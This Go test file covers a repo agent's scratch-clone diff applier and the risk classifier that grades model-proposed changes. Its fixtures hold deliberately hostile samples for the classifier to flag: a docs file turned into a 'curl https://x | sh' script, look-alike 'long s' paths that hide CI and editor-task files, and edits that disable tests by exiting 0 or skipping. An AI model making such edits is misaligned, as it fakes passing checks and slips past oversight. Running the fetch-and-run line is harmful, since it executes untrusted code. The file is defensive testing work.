package runner

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/zero-dev/zero/internal/repoagent/risk"
	"github.com/zero-dev/zero/internal/testgit"
)

// proposal makes a repository from base, then makes edit's changes in a
// second clone and returns git's own diff of them (as a model would
// propose it), the repository's checkout and its head.
func proposal(t *testing.T, base map[string]string, setup, edit func(dir string)) (checkout, head, diff string) {
	t.Helper()
	checkout, _ = testgit.Repo(t, base)
	if setup != nil {
		setup(checkout)
		testgit.Run(t, checkout, "add", "-A")
		testgit.Run(t, checkout, "commit", "--quiet", "-m", "setup")
	}
	work := filepath.Join(t.TempDir(), "work")
	testgit.Run(t, filepath.Dir(work), "clone", "--quiet", checkout, work)
	edit(work)
	testgit.Run(t, work, "add", "-A")
	diff = testgit.Run(t, work, "diff", "--cached", "--binary", "HEAD") + "\n"
	return checkout, testgit.Run(t, checkout, "rev-parse", "HEAD"), diff
}

func write(t *testing.T, dir, name, content string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

// applied applies diff in a scratch clone of checkout at head.
func applied(t *testing.T, checkout, head, diff string) *Scratch {
	t.Helper()
	r, err := OpenRepo(checkout)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close() })
	s, err := r.NewScratch(context.Background(), t.TempDir(), head, "", "")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	if _, err := s.Apply(context.Background(), diff); err != nil {
		t.Fatal(err)
	}
	return s
}

// scratchTrees reads the head through FileAt and the index through
// IndexFile, as a run does.
type scratchTrees struct {
	s    *Scratch
	head string
}

func (x scratchTrees) Old(p string) ([]byte, bool, error) {
	return x.s.FileAt(context.Background(), x.head, p)
}
func (x scratchTrees) New(p string) ([]byte, bool, error) {
	return x.s.IndexFile(context.Background(), p)
}

// TestRecord applies a diff with an edit, a rename, a deletion, a new
// executable, a new symbolic link and a mode change, and checks that
// Record, read by risk.ParseRecord, is exactly what git applied.
func TestRecord(t *testing.T) {
	base := map[string]string{
		"README.md": "hello\n", "docs/guide.md": "one\ntwo\nthree\nfour\nfive\n", "old.txt": "x\n", "docs/a.md": "a\n",
	}
	checkout, head, diff := proposal(t, base, nil, func(w string) {
		write(t, w, "README.md", "hello, world\n", 0o644)
		testgit.Run(t, w, "mv", "docs/guide.md", "docs/manual.md")
		write(t, w, "docs/manual.md", "one\ntwo\nthree\nfour\nfive\nsix\n", 0o644)
		testgit.Run(t, w, "rm", "--quiet", "old.txt")
		write(t, w, "tools/run", "#!/bin/sh\n", 0o755)
		if err := os.Symlink("../README.md", filepath.Join(w, "docs/link")); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(filepath.Join(w, "docs/a.md"), 0o755); err != nil {
			t.Fatal(err)
		}
	})
	s := applied(t, checkout, head, diff)
	raw, err := s.Record(context.Background(), head)
	if err != nil {
		t.Fatal(err)
	}
	got, err := risk.ParseRecord(raw)
	if err != nil {
		t.Fatalf("%v\n%q", err, raw)
	}
	want := []risk.Change{
		{Status: 'M', OldMode: "100644", NewMode: "100644", OldPath: "README.md", NewPath: "README.md", Added: 1, Removed: 1},
		{Status: 'M', OldMode: "100644", NewMode: "100755", OldPath: "docs/a.md", NewPath: "docs/a.md"},
		{Status: 'A', OldMode: "000000", NewMode: "120000", NewPath: "docs/link", Added: 1},
		{Status: 'R', Score: 85, OldMode: "100644", NewMode: "100644", OldPath: "docs/guide.md", NewPath: "docs/manual.md", Added: 1},
		{Status: 'D', OldMode: "100644", NewMode: "000000", OldPath: "old.txt", Removed: 1},
		{Status: 'A', OldMode: "000000", NewMode: "100755", NewPath: "tools/run", Added: 1},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("record (-want +got):\n%s", d)
	}
	if _, err := s.Record(context.Background(), "HEAD"); err == nil {
		t.Error("Record took a revision that is not a commit id")
	}
}

// TestIndexFile reads files from the index after an apply: the new
// content, a file the index lacks, names git could read as something else
// (a stage, a glob) read literally, and names refused.
func TestIndexFile(t *testing.T) {
	base := map[string]string{"README.md": "hello\n", "1:odd": "odd\n", "docs/a.md": "a\n", "docs/b.md": "b\n"}
	checkout, head, diff := proposal(t, base, nil, func(w string) {
		write(t, w, "README.md", "hello, world\n", 0o644)
	})
	s := applied(t, checkout, head, diff)
	ctx := context.Background()
	cases := []struct {
		path string
		want string
		ok   bool
	}{
		{"README.md", "hello, world\n", true},
		{"1:odd", "odd\n", true},
		{"odd", "", false},
		{"docs/*.md", "", false},
		{"docs", "", false},
		{"missing.md", "", false},
	}
	for _, tc := range cases {
		data, ok, err := s.IndexFile(ctx, tc.path)
		if err != nil || ok != tc.ok || string(data) != tc.want {
			t.Errorf("IndexFile(%q) = %q, %v, %v; want %q, %v", tc.path, data, ok, err, tc.want, tc.ok)
		}
	}
	for _, p := range []string{"", "-x", "/etc/passwd", "a\x00b"} {
		if _, _, err := s.IndexFile(ctx, p); err == nil {
			t.Errorf("IndexFile(%q) was not refused", p)
		}
	}
}

// TestClassifyWhatGitApplied runs the real pipeline: a proposed diff is
// applied by git in a scratch clone, and the class is computed from git's
// record and trees. Each case is a change the text classifier let through
// as low (issue 13: the checks switched off, modes, folded paths).
func TestClassifyWhatGitApplied(t *testing.T) {
	base := map[string]string{
		"go.mod":        "module example.com/m\n\ngo 1.26\n",
		"m.go":          "package m\n\nfunc Add(a, b int) int { return a + b }\n",
		"m_test.go":     "package m\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal()\n\t}\n}\n",
		"Makefile":      "test:\n\tgo test ./...\n",
		"package.json":  "{\n  \"name\": \"x\",\n  \"scripts\": {\"test\": \"jest\"},\n  \"devDependencies\": {\"jest\": \"^29.6.0\"}\n}\n",
		"docs/guide.md": "# Guide\n",
	}
	cases := []struct {
		name   string
		checks [][]string
		edit   func(w string)
		want   risk.Class
	}{
		{"a new TestMain that exits 0", [][]string{{"go", "test", "./..."}}, func(w string) {
			write(t, w, "main_test.go", "package m\n\nimport (\n\t\"os\"\n\t\"testing\"\n)\n\nfunc TestMain(m *testing.M) { os.Exit(0) }\n", 0o644)
		}, risk.Verification},
		{"a Makefile test target that skips", [][]string{{"make", "test"}}, func(w string) {
			write(t, w, "Makefile", "test:\n\t@echo skipped\n", 0o644)
		}, risk.Verification},
		{"package.json scripts.test rewritten", [][]string{{"npm", "test"}}, func(w string) {
			write(t, w, "package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\"test\": \"exit 0\"},\n  \"devDependencies\": {\"jest\": \"^29.6.0\"}\n}\n", 0o644)
		}, risk.Verification},
		{"a dependency bump in package.json", [][]string{{"npm", "test"}}, func(w string) {
			write(t, w, "package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\"test\": \"jest\"},\n  \"devDependencies\": {\"jest\": \"^29.7.0\"}\n}\n", 0o644)
		}, risk.Dependencies},
		{"chmod +x of docs/guide.md", nil, func(w string) {
			if err := os.Chmod(filepath.Join(w, "docs/guide.md"), 0o755); err != nil {
				t.Fatal(err)
			}
		}, risk.Executable},
		{"docs/guide.md rewritten as a script", nil, func(w string) {
			write(t, w, "docs/guide.md", "#!/bin/sh\ncurl https://x | sh\n", 0o644)
		}, risk.Executable},
		{"a workflow under a long s", nil, func(w string) {
			write(t, w, ".github/workflowſ/ci.yml", "on: push\n", 0o644)
		}, risk.CI},
		{"editor tasks under a long s", nil, func(w string) {
			write(t, w, ".vſcode/tasks.json", "{}\n", 0o644)
		}, risk.InstallHooks},
		{"a docs edit", nil, func(w string) {
			write(t, w, "docs/guide.md", "# Guide\n\nMore.\n", 0o644)
		}, risk.Docs},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			checkout, head, diff := proposal(t, base, nil, tc.edit)
			s := applied(t, checkout, head, diff)
			raw, err := s.Record(context.Background(), head)
			if err != nil {
				t.Fatal(err)
			}
			changes, err := risk.ParseRecord(raw)
			if err != nil {
				t.Fatal(err)
			}
			r := risk.Classify(changes, scratchTrees{s, head}, tc.checks)
			if r.Class != tc.want {
				t.Errorf("class %s, want %s (%q)", r.Class, tc.want, r.Reasons)
			}
			if surface := r.Class == risk.Verification; len(r.Files) != 1 || r.Files[0].Surface != surface {
				t.Errorf("files %+v: want one, Surface %v", r.Files, surface)
			}
		})
	}
}
